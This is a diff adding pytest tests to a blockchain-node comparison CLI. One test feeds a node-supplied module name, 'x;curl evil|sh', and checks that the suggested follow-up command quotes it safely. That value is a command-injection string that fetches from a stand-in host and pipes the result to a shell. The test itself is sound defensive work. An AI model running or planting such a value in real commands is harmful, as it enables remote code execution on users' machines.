@@ -7,7 +7,11 @@ from collections.abc import Iterator
 
 import pytest
 
+from dchat.cli.compare import Told
+from dchat.cli.listing import StatesDiffer, judge_pair
 from dchat.kernel import accounts
+from dchat.kernel.roots import Root
+from dchat.node.stores.roots import Roots
 from tests.dchat.cli.nodes import Dchat, Nodes, running
 from tests.fakes.memory import ALICE, BOB, CAROL
 
@@ -97,6 +101,31 @@ def test_comparing_names_the_modules_that_differ_and_the_next_command(
         "dchat: hint: find the entries: dchat query entries account --network FILE --chain currency"
         " --height 3 --rpc http://right.example.org --compare http://wrong.example.org",
     ]
+
+
+def test_a_module_that_a_node_made_up_is_quoted_in_the_next_command() -> None:
+    here, there = (
+        Told(url, Roots(bytes(32), (Root("x;curl evil|sh", entries, bytes(32)),)))
+        for url, entries in (("http://a", 1), ("http://b", 2))
+    )
+
+    with pytest.raises(StatesDiffer) as refused:
+        judge_pair(here, there, 5, "--chain chat")
+
+    assert refused.value.hint == (
+        "find the entries: dchat query entries 'x;curl evil|sh' --chain chat --height 5"
+        " --rpc http://a --compare http://b"
+    )
+
+
+@pytest.mark.parametrize("option", ["--compare", "--rpc"])
+def test_an_empty_address_is_refused_and_not_passed_over(
+    nodes: Nodes, dchat: Dchat, option: str
+) -> None:
+    ran = dchat("query", "roots", "--network", nodes.file, option, "")
+
+    assert (ran.code, ran.out) == (1, "")
+    assert "no node answered abci_query" in ran.err
 
 
 def test_comparing_entries_shows_those_that_differ(nodes: Nodes, dchat: Dchat) -> None:
